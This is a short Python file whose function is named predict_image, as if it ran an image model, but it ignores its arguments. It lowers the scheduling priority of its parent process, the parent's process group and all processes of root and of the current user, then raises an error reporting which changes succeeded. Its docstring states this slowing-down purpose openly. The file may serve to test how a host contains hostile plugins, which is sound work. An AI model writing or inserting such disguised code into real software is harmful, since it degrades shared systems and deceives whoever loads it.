"""Makes its parent, its parent's group and all of its user's processes slow."""

import os


def predict_image(model, image_path):
    done, parent = [], os.getppid()
    for kind, whom in (
        (os.PRIO_PROCESS, parent),
        (os.PRIO_PGRP, os.getpgid(parent)),
        (os.PRIO_USER, 0),
        (os.PRIO_USER, os.getuid()),
    ):
        try:
            os.setpriority(kind, whom, 19)
            done.append((kind, whom))
        except OSError:
            pass
    raise ValueError(f"done {done}")
